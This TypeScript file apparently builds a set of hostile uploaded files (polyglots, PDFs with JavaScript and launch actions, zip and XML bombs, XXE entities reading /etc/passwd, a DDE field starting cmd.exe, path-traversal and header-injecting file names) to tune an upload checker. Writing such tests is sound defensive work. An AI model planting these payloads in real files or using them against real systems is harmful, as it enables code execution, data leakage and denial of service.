// The tuning half of the hostile files: the checks may be built and tuned against it.
import { deflateSync } from "node:zlib";
import { big, join, latin1, little, megabyte, utf8, zlibZeros } from "./bytes.ts";
import {
  contentTypesXml,
  documentXml,
  docx,
  docxEntries,
  docxWithTemplate,
  macroMainType,
  macroRelation,
  odt,
  odtContent,
  paragraph,
  relationsXml,
} from "./docx.ts";
import {
  docxCv,
  gifPhoto,
  type HostileFile,
  harmless,
  html,
  inCategory,
  jpegPhoto,
  laughs,
  mark,
  movVideo,
  mp4Video,
  odtCv,
  openScript,
  pdfCv,
  pdfScript,
  php,
  pngPhoto,
  refused,
  script,
  scriptAction,
  smallArchive,
  stranger,
  webmVideo,
  webpPhoto,
} from "./hostile.ts";
import { box, fileType, film, fullBox, track, webm } from "./media.ts";
import { attachment, cvPdf, lockedPdf, openStream, pageContent, pageLink, someLines, stream } from "./pdf.ts";
import { hiddenStates, manyOperators, manyStates, nestedForms, nestedPatterns, selfForm } from "./pdf-work.ts";
import { camera, exifSegment, gif, heif, jpeg, jpegSegment, png, pngChunk, tiff, webp } from "./pictures.ts";
import { linuxProgram, oldWordDocument, richText, windowsProgram } from "./programs.ts";
import { zerosEntry, zip } from "./zip.ts";

const svgHead = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">';

const polyglots = inCategory("polyglot", [
  {
    ...pdfCv,
    name: "PDF behind a page of HTML",
    bytes: () => join(html.replace("</html>", "<!--\n"), cvPdf(), "-->"),
    expected: refused,
    why: "Readers find the PDF within the first 1024 bytes, browsers that guess find the page before it.",
  },
  {
    ...pdfCv,
    name: "PDF with HTML in its second line",
    bytes: () => cvPdf({ version: `1.4\n%${html}` }),
    expected: harmless,
    why: "A comment of a PDF: it is a page only where it is served as one or without a type.",
  },
  {
    ...gifPhoto,
    name: "GIF that is a program in JavaScript",
    bytes: () => join(gif({ width: 0x2a2f, height: 4, frame: { width: 8, height: 8 } }), `*/=1;${script}`),
    expected: harmless,
    why: "GIF89a/*...*/=1 assigns a variable, then runs; encoded anew nothing of it is left.",
    absent: [mark],
  },
  {
    ...jpegPhoto,
    name: "JPEG with a ZIP behind it",
    bytes: () => join(jpeg(), zip([{ name: "index.html", content: html, packing: 0 }])),
    expected: harmless,
    why: "A picture from its beginning, an archive from its end; encoded anew it is a picture alone.",
    absent: ["PK\x03\x04", "PK\x05\x06", mark],
  },
  {
    ...pdfCv,
    name: "PDF with a ZIP behind it",
    bytes: () => join(cvPdf(), smallArchive()),
    expected: refused,
    why: "A PDF is kept as it is: the archive would go out with it under our name.",
  },
  {
    ...pngPhoto,
    name: "PNG with PHP behind its end",
    bytes: () => join(png(), php),
    expected: harmless,
    why: "Runs where a server believes a name; encoded anew it ends with the picture.",
    absent: ["<?php", mark],
  },
  {
    ...jpegPhoto,
    name: "JPEG with a page of HTML behind it, as a logo",
    kind: "logo",
    bytes: () => join(jpeg(), html),
    expected: harmless,
    why: "A logo is public; encoded again it holds no page.",
    absent: ["<script", mark],
  },
]);

const metadata = inCategory("picture metadata", [
  {
    ...jpegPhoto,
    name: "JPEG with EXIF position, comment and HTML behind it",
    bytes: () => join(jpeg({ segments: join(exifSegment(), jpegSegment(0xfe, html)) }), html),
    expected: harmless,
    why: "The position of a home and a page ride along; neither may be served.",
    absent: ["Exif\0\0", camera, "<script", mark],
  },
  {
    ...pngPhoto,
    name: "PNG with text and XMP",
    bytes: () =>
      png({
        before: join(
          pngChunk("tEXt", `Comment\0${html}`),
          pngChunk("iTXt", "XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta><exif:GPSLatitude>48,51.49N</exif:GPSLatitude>"),
        ),
      }),
    expected: harmless,
    why: "Texts beside the pixels: a page, and a position in XMP.",
    absent: ["<script", mark, "xmpmeta", "GPSLatitude"],
  },
  {
    ...jpegPhoto,
    name: "photographed CV with its position",
    kind: "cv",
    bytes: () => jpeg({ width: 240, height: 320, segments: exifSegment() }),
    expected: harmless,
    why: "Photographs become a PDF, which must not carry where they were taken.",
    absent: ["Exif\0\0", camera],
  },
]);

const scripts = inCategory("pdf script", [
  {
    ...pdfCv,
    name: "PDF script when it is opened",
    bytes: () => cvPdf({ catalogue: `/OpenAction${scriptAction}` }),
    expected: refused,
    why: "Runs by itself in Acrobat and in browsers' readers.",
  },
  {
    ...pdfCv,
    name: "PDF script when its page is shown",
    kind: "offerFile",
    bytes: () => cvPdf({ page: `/AA<</O<</Type/Action/S /JavaScript /JS (${pdfScript})>>>>` }),
    expected: refused,
    why: "Additional actions of a page run like those of the document.",
  },
  {
    ...pdfCv,
    name: "PDF script among its names, packed",
    bytes: () =>
      cvPdf({
        catalogue: "/Names 10 0 R",
        objects: {
          10: "<</JavaScript 11 0 R>>",
          11: "<</Names[(start)12 0 R]>>",
          12: scriptAction,
        },
        pack: {},
      }),
    expected: refused,
    why: "No word of it stands open in the file: the objects lie in a compressed object stream.",
  },
  {
    ...pdfCv,
    name: "PDF script with escaped names",
    bytes: () => cvPdf({ catalogue: `/Open#41ction<</S/J#61vaScript/#4A#53(${pdfScript})>>` }),
    expected: refused,
    why: "#61 is an a: the names are the same to every reader.",
  },
  {
    ...pdfCv,
    name: "PDF script in a compressed stream",
    bytes: () =>
      cvPdf({
        catalogue: "/OpenAction 10 0 R",
        objects: { 10: "<</Type/Action/S/JavaScript/JS 11 0 R>>", 11: stream(openScript) },
      }),
    expected: refused,
    why: "The script may be a stream instead of a text.",
  },
  {
    ...pdfCv,
    name: "PDF script behind a link",
    bytes: () =>
      cvPdf({
        page: "/Annots[10 0 R]",
        objects: {
          10: pageLink(scriptAction),
        },
      }),
    expected: refused,
    why: "A link over the whole page runs it at the first click.",
  },
  {
    ...pdfCv,
    name: "PDF script on a form's field",
    bytes: () =>
      cvPdf({
        catalogue: "/AcroForm<</Fields[10 0 R]>>",
        page: "/Annots[10 0 R]",
        objects: {
          10: `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[72 600 200 620]/AA<</F${scriptAction}>>>>`,
        },
      }),
    expected: refused,
    why: "Forms may calculate with scripts; a CV has nothing to calculate.",
  },
]);

const actions = inCategory("pdf action", [
  {
    ...pdfCv,
    name: "PDF that launches a program",
    bytes: () => cvPdf({ catalogue: "/OpenAction<</S/Launch/F(/C/Windows/System32/calc.exe)>>" }),
    expected: refused,
    why: "Starts a program of the reader's machine.",
  },
  {
    ...pdfCv,
    name: "PDF that sends its form to a stranger",
    bytes: () =>
      cvPdf({
        catalogue: `/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://${stranger}/form)>>/Flags 4>>`,
      }),
    expected: refused,
    why: "Tells a stranger who opened it and what stands in it.",
  },
  {
    ...pdfCv,
    name: "PDF that fills itself from a stranger's data",
    bytes: () => cvPdf({ page: `/AA<</O<</S/ImportData/F(\\\\\\\\${stranger}\\\\share\\\\a.fdf)>>>>` }),
    expected: refused,
    why: "Reads a file of the machine or of a share when its page is shown.",
  },
  {
    ...pdfCv,
    name: "PDF that goes to a file on a share",
    bytes: () => cvPdf({ page: `/AA<</O<</S/GoToR/D[0/Fit]/F(\\\\\\\\${stranger}\\\\share\\\\a.pdf)>>>>` }),
    expected: refused,
    why: "Windows offers the reader's password to the share before asking.",
  },
  {
    ...pdfCv,
    name: "PDF with rich media",
    bytes: () =>
      cvPdf({
        page: "/Annots[10 0 R]",
        objects: {
          10: "<</Type/Annot/Subtype/RichMedia/Rect[0 0 595 842]/RichMediaContent<</Assets<</Names[(a.swf)11 0 R]>>/Configurations[<</Subtype/Flash/Instances[<</Asset 11 0 R>>]>>]>>/RichMediaSettings<</Activation<</Condition/PO>>>>>>",
          11: "<</Type/Filespec/F(a.swf)/EF<</F 12 0 R>>>>",
          12: openStream("FWS\x09", "/Type/EmbeddedFile"),
        },
      }),
    expected: refused,
    why: "Programs for Flash that start with the page.",
  },
  {
    ...pdfCv,
    name: "PDF with an XFA form",
    bytes: () =>
      cvPdf({
        catalogue: "/AcroForm<</Fields[]/XFA 10 0 R>>",
        objects: {
          10: stream(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.messageBox("${mark}")</script></event></subform></template></xdp:xdp>`,
          ),
        },
      }),
    expected: refused,
    why: "A second document in XML with scripts of its own, which most checks do not read.",
  },
]);

const attachments = inCategory("pdf attachment", [
  {
    ...pdfCv,
    name: "PDF with a program attached",
    bytes: () => cvPdf(attachment("setup.exe", windowsProgram(), "application/x-msdownload")),
    expected: refused,
    why: "The reader offers the program with our name around it.",
  },
  {
    ...pdfCv,
    name: "PDF with another PDF attached",
    bytes: () => cvPdf({ ...attachment("lettre.pdf", cvPdf(), "application/pdf"), pack: {} }),
    expected: refused,
    why: "Only XML may be attached; what lies inside another PDF is not looked at.",
  },
]);

const structures = inCategory("pdf structure", [
  {
    ...pdfCv,
    name: "PDF under a password",
    bytes: () => lockedPdf("vivier", openScript),
    expected: refused,
    why: "No check can look into it, and it holds a script.",
  },
  {
    ...pdfCv,
    name: "PDF whose pages are their own children",
    bytes: () => cvPdf({ objects: { 2: "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 3>>" } }),
    expected: refused,
    why: "A walk through the pages never ends; there is no page to show.",
  },
  {
    ...pdfCv,
    name: "PDF that counts two billion pages",
    bytes: () => cvPdf({ objects: { 2: "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>" } }),
    expected: harmless,
    why: "One page is there; the viewer must not make room for all that are said.",
  },
  {
    ...pdfCv,
    name: "PDF of 100,000 objects",
    bytes: () =>
      cvPdf({ objects: Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [10 + i, "<</A 1>>"])) }),
    expected: harmless,
    why: "Nothing in it is forbidden, but it must be judged within its time.",
  },
  ...(
    [
      ["28 forms within forms, each drawn twice", () => nestedForms(28), "Six kilobytes draw 268 million forms."],
      ["28 patterns within patterns", () => nestedPatterns(28), "The same, where only a drawing of it would find out."],
      ["four million saved states", () => manyStates(4_000_000), "Readers slow down with each state that is saved."],
      ["a thousand saved states that seem restored", () => hiddenStates(1_000), "What restores them is a text."],
      ["a million operators", () => manyOperators(1_000_000), "Each is small, and drawing them takes a minute."],
      ["a form that draws itself", selfForm, "Drawing it never ends."],
    ] as const
  ).map(([what, bytes, why]) => ({
    ...pdfCv,
    ...({ name: `PDF with ${what}`, bytes, expected: refused, why } as const),
  })),
  {
    ...pdfCv,
    name: "PDF whose page unpacks to 1 GB",
    bytes: () => cvPdf({ objects: { 4: { dictionary: "/Filter/FlateDecode", bytes: zlibZeros(1024 * megabyte) } } }),
    expected: refused,
    why: "One megabyte in the file, a thousand in the memory of the reader.",
  },
  {
    ...pdfCv,
    name: "PDF packed twice that unpacks to 1 GB",
    bytes: () => {
      const bytes = deflateSync(zlibZeros(1024 * megabyte), { level: 9 });
      return cvPdf({ objects: { 4: { dictionary: "/Filter[/FlateDecode/FlateDecode]", bytes } } });
    },
    expected: refused,
    why: "A few kilobytes in the file: packed zeros are packed again.",
  },
  {
    ...pdfCv,
    name: "PDF cut in the middle",
    kind: "kbis",
    fileName: "kbis.pdf",
    bytes: () => {
      const noise = Array.from({ length: 4000 }, (_, i) => `${(i * 7919) % 10007} Tz`).join(" ");
      const whole = cvPdf({ objects: { 4: openStream(`${pageContent(someLines)} ${noise}`) }, pack: {} });
      return whole.slice(0, whole.length / 2);
    },
    expected: refused,
    why: "The table and the catalogue are gone with the second half: no program can show it.",
  },
]);

const sizes = inCategory("picture size", [
  {
    ...pngPhoto,
    name: "PNG that says 50,000 by 50,000",
    bytes: () => png({ width: 50_000, height: 50_000, depth: 8, colour: 6, packed: zlibZeros(64) }),
    expected: refused,
    why: "Ten gigabytes of pixels from a hundred bytes.",
  },
  {
    ...jpegPhoto,
    name: "JPEG that says 65,500 by 65,500",
    kind: "offerImage",
    bytes: () => jpeg({ said: { width: 65_500, height: 65_500 } }),
    expected: refused,
    why: "Four gigabytes of pixels; most decoders fill in what is missing.",
  },
  {
    ...gifPhoto,
    name: "GIF that says 50,000 by 50,000",
    bytes: () => gif({ width: 50_000, height: 50_000, indices: 1 }),
    expected: refused,
    why: "Two and a half billion indices from a hundred bytes.",
  },
  {
    ...webpPhoto,
    name: "WebP of one colour, 16,383 by 16,383",
    bytes: () => webp(16_383, 16_383),
    expected: refused,
    why: "A whole and true picture in 34 bytes that takes a gigabyte.",
  },
  {
    ...pngPhoto,
    name: "PNG of 20,000 by 20,000 zeros",
    kind: "logo",
    bytes: () => png({ width: 20_000, height: 20_000, packed: zlibZeros(20_000 * 20_001) }),
    expected: refused,
    why: "Whole and true, ten times the pixels that we take.",
  },
  {
    ...gifPhoto,
    name: "GIF of 5,000 frames",
    bytes: () => gif({ width: 500, height: 500, frames: 5_000 }),
    expected: harmless,
    why: "Each frame is small, all together are a billion pixels; the first one is enough.",
  },
  {
    fileName: "photo.tiff",
    declaredType: "image/tiff",
    kind: "image",
    name: "TIFF of one tile of 2 GB",
    bytes: () => tiff(50_000, 50_000, zlibZeros(4096), { width: 46_336, height: 46_336 }),
    expected: refused,
    why: "Room is made for a whole tile before its content is read.",
  },
  {
    fileName: "photo.heic",
    declaredType: "image/heic",
    kind: "image",
    name: "HEIC of four billion by four billion",
    bytes: () => heif("heic", 0xffffffff, 0xffffffff),
    expected: refused,
    why: "The product of its sides does not fit into 64 bits.",
  },
  {
    ...jpegPhoto,
    name: "photographed CV of 60,000 by 60,000",
    kind: "cv",
    bytes: () => jpeg({ said: { width: 60_000, height: 60_000 }, frame: 0xc2, bare: true }),
    expected: refused,
    why: "The photographs that become a PDF have the limits of pictures.",
  },
]);

const svgs = inCategory("svg", [
  {
    fileName: "logo.svg",
    declaredType: "image/svg+xml",
    kind: "logo",
    name: "SVG with a script as a logo",
    bytes: () => utf8(`${svgHead}<script>${script}</script><rect width="64" height="64"/></svg>`),
    expected: refused,
    why: "An SVG is a document that runs in the origin that serves it.",
  },
  {
    ...pngPhoto,
    name: "SVG of a billion laughs named PNG",
    bytes: () => {
      return utf8(
        `<?xml version="1.0"?><!DOCTYPE svg [${laughs(9, 10)}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`,
      );
    },
    expected: refused,
    why: "Entities of entities: five gigabytes of text from a kilobyte.",
  },
]);

const archives = inCategory("archive", [
  {
    ...docxCv,
    name: "DOCX with a part of 1 GB",
    bytes: () => docx({ parts: [zerosEntry("word/media/image1.png", 1024 * megabyte)] }),
    expected: refused,
    why: "An honest directory: the sum of what it says is far too much.",
  },
  {
    ...docxCv,
    name: "DOCX with a ZIP in a ZIP of 1 GB",
    bytes: () => {
      const inner = zip([zerosEntry("a", 1024 * megabyte)]);
      return docx({ parts: [{ name: "word/media/image1.zip", content: zip([{ name: "b.zip", content: inner }]) }] });
    },
    expected: refused,
    why: "An archive has no place in a document, and unpacking goes on inside.",
  },
  {
    ...docxCv,
    name: "DOCX of 30,000 parts",
    bytes: () => {
      const parts = Array.from({ length: 30_000 }, (_, i) => ({ name: `word/media/${i}`, packing: 0 }));
      return docx({ parts });
    },
    expected: refused,
    why: "Empty parts, each of which costs room and time.",
  },
  {
    ...docxCv,
    name: "DOCX whose parts lie on one another",
    bytes: () => {
      const entries = docxEntries({ parts: [zerosEntry("word/media/image0.png", 20 * megabyte)] });
      const last = entries.length - 1;
      const more = Array.from({ length: 60 }, (_, i) => ({
        ...entries[last]!,
        name: `word/media/image${i + 1}.png`,
        sharedWith: last,
      }));
      return zip([...entries, ...more]);
    },
    expected: refused,
    why: "Sixty names for the same bytes: twenty kilobytes unpack to more than a gigabyte.",
  },
  {
    ...docxCv,
    name: "DOCX that says 500 bytes and unpacks to 500 MB",
    bytes: () => docx({ parts: [zerosEntry("word/media/image1.png", 500 * megabyte, { size: 500 })] }),
    expected: refused,
    why: "What the directory says is a lie that shows only when it is unpacked.",
  },
  {
    ...docxCv,
    name: "DOCX with the sizes of a huge archive",
    bytes: () => {
      const extra = join(little.u16(1), little.u16(16), little.u64(2 ** 60), little.u64(2 ** 60));
      const huge = { size: 0xffffffff, packedSize: 0xffffffff, extra };
      return docx({ parts: [{ name: "word/media/image1.png", content: "a", ...huge }] });
    },
    expected: refused,
    why: "The 64 bit sizes say an exabyte; who reads the 32 bit ones only takes them for 4 GB.",
  },
  {
    ...docxCv,
    name: "DOCX with a part outside of itself",
    bytes: () => docx({ parts: [{ name: "../../../../etc/cron.d/vivier", content: mark }] }),
    expected: refused,
    why: "Unpacking it into a folder writes outside of the folder.",
  },
  {
    ...docxCv,
    name: "DOCX under a password",
    bytes: () =>
      docx({
        parts: [{ name: "word/document.xml", packed: new Uint8Array(200).fill(0xa7), size: 400, flags: 1, crc: 1 }],
      }),
    expected: refused,
    why: "No check can look into it.",
  },
  {
    ...docxCv,
    name: "DOCX with a symbolic link",
    bytes: () => docx({ parts: [{ name: "word/media/image1.png", content: "/etc/passwd", mode: 0o120777 }] }),
    expected: refused,
    why: "Unpacked it points to a file of the machine, which is then read as a picture.",
  },
  {
    ...docxCv,
    name: "DOCX with two lists of its types",
    bytes: () => {
      return zip([...docxEntries(), { name: "[Content_Types].xml", content: contentTypesXml(macroMainType) }]);
    },
    expected: refused,
    why: "A check reads the first, Word reads the second, which allows macros.",
  },
]);

const documents = inCategory("document", [
  {
    ...docxCv,
    name: "DOCX with an external entity",
    bytes: () =>
      docx({
        doctype: '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        body: paragraph("&a;"),
      }),
    expected: refused,
    why: "A reader that resolves entities shows a file of the server.",
  },
  {
    ...odtCv,
    name: "ODT with an external entity",
    bytes: () =>
      odt({
        doctype: `<!DOCTYPE office:document-content [<!ENTITY a SYSTEM "http://${stranger}/a">]>`,
        body: "<text:p>&a;</text:p>",
      }),
    expected: refused,
    why: "A reader that resolves entities asks a stranger.",
  },
  {
    ...docxCv,
    name: "DOCM named DOCX",
    bytes: () =>
      docx({
        mainType: macroMainType,
        types: '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        relations: [{ type: macroRelation, target: "vbaProject.bin" }],
        parts: [{ name: "word/vbaProject.bin", content: oldWordDocument() }],
      }),
    expected: refused,
    why: "Macros run in Word.",
  },
  {
    ...docxCv,
    name: "DOCX with a template from a stranger",
    bytes: () =>
      docxWithTemplate(
        relationsXml([{ type: "attachedTemplate", target: `http://${stranger}/a.dotm`, external: true }]),
      ),
    expected: refused,
    why: "Word fetches the template, and its macros with it, when the document is opened.",
  },
  {
    ...docxCv,
    name: "DOCX with an OLE object",
    bytes: () =>
      docx({
        body: `<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" DrawAspect="Icon" ObjectID="_1" r:id="rId1"/></w:object></w:r></w:p>`,
        relations: [{ type: "oleObject", target: "embeddings/oleObject1.bin" }],
        parts: [{ name: "word/embeddings/oleObject1.bin", content: oldWordDocument() }],
      }),
    expected: refused,
    why: "A packed program looks like an icon that one double-clicks.",
  },
  {
    ...docxCv,
    name: "DOCX with a page of HTML for a part",
    bytes: () =>
      docx({
        types: '<Override PartName="/word/part.html" ContentType="text/html"/>',
        body: '<w:altChunk r:id="rId1"/>',
        relations: [{ type: "aFChunk", target: "part.html" }],
        parts: [{ name: "word/part.html", content: html }],
      }),
    expected: refused,
    why: "Word takes the page into the text; a viewer that does the same runs its scripts.",
  },
  {
    ...docxCv,
    name: "DOCX with a DDE field",
    bytes: () =>
      docx({
        body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo ${mark}" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      }),
    expected: refused,
    why: "A field that starts a program when Word updates it.",
  },
  {
    ...docxCv,
    name: "DOCX with a link that is a script",
    bytes: () =>
      docx({
        body: `<w:p><w:hyperlink r:id="rId1"><w:r><w:t>Portfolio</w:t></w:r></w:hyperlink></w:p>`,
        relations: [{ type: "hyperlink", target: `javascript:alert('${mark}')`, external: true }],
      }),
    expected: harmless,
    why: "Word does not run it; the page that shows the document must not make a link of it.",
    absent: ["javascript:alert"],
  },
  {
    ...docxCv,
    name: "DOCX whose text is HTML",
    bytes: () => docx({ body: paragraph(html.replaceAll("<", "&lt;").replaceAll(">", "&gt;")) }),
    expected: harmless,
    why: "Text that a careless page would write out as it is.",
    absent: ["<script>alert"],
  },
  {
    ...odtCv,
    name: "ODT with a macro",
    bytes: () =>
      odt({
        scripts: `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`,
        manifest: ["Basic/Standard/Module1.xml text/xml"],
        parts: [
          {
            name: "Basic/Standard/Module1.xml",
            content: `<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\nMsgBox "${mark}"\nEnd Sub</script:module>`,
          },
        ],
      }),
    expected: refused,
    why: "LibreOffice runs it when the document is opened, if it is trusted.",
  },
  {
    ...odtCv,
    name: "ODT of a billion laughs",
    bytes: () => {
      const doctype = `<!DOCTYPE a [${laughs(9, 10)}]>`;
      return odt({ parts: [{ name: "content.xml", content: odtContent("<text:p>&l9;</text:p>", doctype) }] });
    },
    expected: refused,
    why: "Entities of entities: five gigabytes of text from a kilobyte.",
  },
  {
    ...docxCv,
    name: "DOCX whose text is nested 100,000 deep",
    bytes: () =>
      docx({
        parts: [
          {
            name: "word/document.xml",
            content: documentXml(
              `${"<w:sdt><w:sdtContent>".repeat(50_000)}${paragraph("a")}${"</w:sdtContent></w:sdt>".repeat(50_000)}`,
            ),
          },
        ],
      }),
    expected: harmless,
    why: "A reader that calls itself at each depth falls over; it must fall alone.",
  },
]);

const wrongTypes = inCategory("wrong type", [
  {
    ...docxCv,
    name: "old Word document named DOCX",
    bytes: oldWordDocument,
    expected: refused,
    why: "Word opens it by its content, with the macros that old documents may hold.",
  },
  {
    ...docxCv,
    name: "rich text named DOCX",
    bytes: () => richText(),
    expected: refused,
    why: "Word opens it by its content, with the object packed into it.",
  },
  {
    ...pdfCv,
    name: "Windows program named PDF",
    bytes: windowsProgram,
    expected: refused,
    why: "A program under the name of a document.",
  },
  {
    ...jpegPhoto,
    name: "Linux program named JPEG",
    bytes: linuxProgram,
    expected: refused,
    why: "A program under the name of a picture.",
  },
  {
    ...docxCv,
    name: "shell script named DOCX",
    bytes: () => latin1(`#!/bin/sh\necho ${mark}\n`),
    expected: refused,
    why: "A program under the name of a document.",
  },
  {
    ...pdfCv,
    name: "page of HTML named PDF",
    bytes: () => utf8(html),
    expected: refused,
    why: "A browser that guesses the type runs it.",
  },
  {
    ...pdfCv,
    name: "SVG with a script named PDF",
    bytes: () => utf8(`${svgHead}<script>${script}</script></svg>`),
    expected: refused,
    why: "A browser that guesses the type runs it.",
  },
  {
    ...pdfCv,
    name: "page of HTML as a Kbis",
    fileName: "kbis.pdf",
    kind: "kbis",
    bytes: () => utf8(`\n\n${html}`),
    expected: refused,
    why: "The administrator opens it, with the rights of one.",
  },
  {
    ...jpegPhoto,
    name: "PDF declared as a photo",
    bytes: () => cvPdf(),
    expected: refused,
    why: "A good CV is no picture, whatever name and type say.",
  },
  {
    ...mp4Video,
    name: "picture declared as a video",
    bytes: () => png(),
    expected: refused,
    why: "A good picture is no video, whatever name and type say.",
  },
  {
    ...pdfCv,
    name: "PDF declared as a page of HTML",
    declaredType: "text/html",
    bytes: () => cvPdf(),
    expected: harmless,
    why: "The declared type must not be the one it is served under.",
  },
  {
    ...pdfCv,
    name: "empty CV",
    bytes: () => new Uint8Array(),
    expected: refused,
    why: "There is nothing in it.",
  },
  {
    ...pngPhoto,
    name: "photo of one byte",
    bytes: () => Uint8Array.of(0x89),
    expected: refused,
    why: "Checks that read further than the file ends must not fall.",
  },
]);

const names = inCategory(
  "name",
  [
    {
      name: "name that climbs out of its folder",
      fileName: "../../../etc/cron.d/cv.pdf",
      expected: harmless,
      why: "Taken as a path it writes outside of its folder.",
      absent: ["../", "..%2F", "cron.d"],
    },
    {
      name: "name that is a Windows path",
      fileName: "C:\\Windows\\System32\\cv.pdf",
      expected: harmless,
      why: "Old browsers send the whole path, which tells who the person is.",
      absent: ["System32", "%5C"],
    },
    {
      name: "name with a NUL",
      fileName: "cv.exe\0.pdf",
      expected: harmless,
      why: "Programs in C read the name up to the NUL.",
      absent: ["%00", "exe\0"],
    },
    {
      name: "name with headers in it",
      fileName: `cv.pdf\r\nSet-Cookie: session=${mark}\r\n\r\n<script>${script}</script>.pdf`,
      expected: harmless,
      why: "Written into a header it ends the header and begins a page.",
      absent: ["\r\nSet-Cookie: session=", "%0D%0A", "<script"],
    },
    {
      ...jpegPhoto,
      name: "name that reads backwards, a program's",
      fileName: "photo\u202Egpj.exe",
      bytes: () => jpeg(),
      expected: refused,
      why: "Shown as photoexe.jpg, run as a program.",
    },
    {
      name: "name that reads backwards, a document's",
      fileName: "cv_\u202Excod.pdf",
      expected: harmless,
      why: "Shown as another type than it is of.",
      absent: ["\u202E", "%E2%80%AE"],
    },
    {
      name: "name of 5,000 characters",
      fileName: `${"a".repeat(5_000)}.pdf`,
      expected: harmless,
      why: "Longer than any file system and many a header take.",
      absent: ["a".repeat(300)],
    },
    {
      name: "name of dots alone",
      fileName: "....",
      expected: harmless,
      why: "Nothing is left of it, or the folder above.",
      absent: ['filename=".', "UTF-8''."],
    },
    {
      name: "name that Windows keeps for a device",
      fileName: "CON.pdf",
      expected: harmless,
      why: "Windows can neither write nor delete a file of this name.",
      absent: ['filename="con.pdf"', "UTF-8''CON.pdf"],
    },
    {
      name: "name with half a character",
      fileName: "cv\uD800.pdf",
      expected: harmless,
      why: "Encoding it for a header or for the database throws.",
      absent: ["%ED%A0%80"],
    },
    {
      name: "name with a program's ending behind the right one",
      fileName: "cv.pdf.exe",
      expected: refused,
      why: "Windows hides the last ending.",
    },
    {
      name: "name that ends in a space",
      fileName: "cv.pdf ",
      expected: harmless,
      why: "Windows drops the space, checks of the ending do not.",
      absent: ["pdf%20", 'pdf "'],
    },
  ].map((one) => ({ ...pdfCv, bytes: () => cvPdf(), ...one })),
);

const videos = inCategory("video", [
  {
    ...mp4Video,
    name: "MP4 with a box larger than the file",
    bytes: () => {
      const whole = film();
      whole.set(big.u32(0x7fffffff), Buffer.from(whole).indexOf("moov") - 4);
      return whole;
    },
    expected: refused,
    why: "Who makes room for what the box says makes room for two gigabytes.",
  },
  {
    ...mp4Video,
    name: "MP4 that is HTML after its first box",
    bytes: () => join(fileType("isom", 512), html),
    expected: refused,
    why: "The first twelve bytes satisfy who looks at these alone.",
  },
  {
    ...webmVideo,
    name: "WebM with a head larger than the file",
    bytes: () => webm({ headSize: join("\x01\x7f", new Uint8Array(6).fill(255)) }),
    expected: refused,
    why: "The first element says petabytes.",
  },
  {
    ...mp4Video,
    name: "MP4 whose pictures lie with a stranger",
    bytes: () => film({ reference: fullBox("url ", 0, `http://${stranger}/a.mp4\0`) }),
    expected: refused,
    why: "A player fetches them, and the stranger learns who looks.",
  },
  {
    ...movVideo,
    name: "MOV with a track of addresses",
    bytes: () =>
      film({
        brand: "qt  ",
        tracks: track(
          "text",
          box("text", new Uint8Array(6), big.u16(1), `A<http://${stranger}/a> T<_blank>`),
          fullBox("url ", 0, `http://${stranger}/a.txt\0`),
          8,
        ),
      }),
    expected: refused,
    why: "QuickTime opens the addresses of the text as the film plays.",
  },
  {
    ...mp4Video,
    name: "MP4 with a ZIP behind it",
    bytes: () => join(film(), smallArchive()),
    expected: refused,
    why: "A video is kept as it is: the archive would go out with it.",
  },
  {
    ...mp4Video,
    name: "MP4 with a position",
    bytes: () => film({ inMovie: box("udta", box("\xa9xyz", big.u16(18), big.u16(0x15c7), "+48.8584+002.2945/")) }),
    expected: harmless,
    why: "Phones write where the film was taken; companies would learn where a candidate lives.",
    absent: ["+48.8584+002.2945"],
  },
]);

export const tuning: HostileFile[] = [
  ...polyglots,
  ...metadata,
  ...scripts,
  ...actions,
  ...attachments,
  ...structures,
  ...sizes,
  ...svgs,
  ...archives,
  ...documents,
  ...wrongTypes,
  ...names,
  ...videos,
];
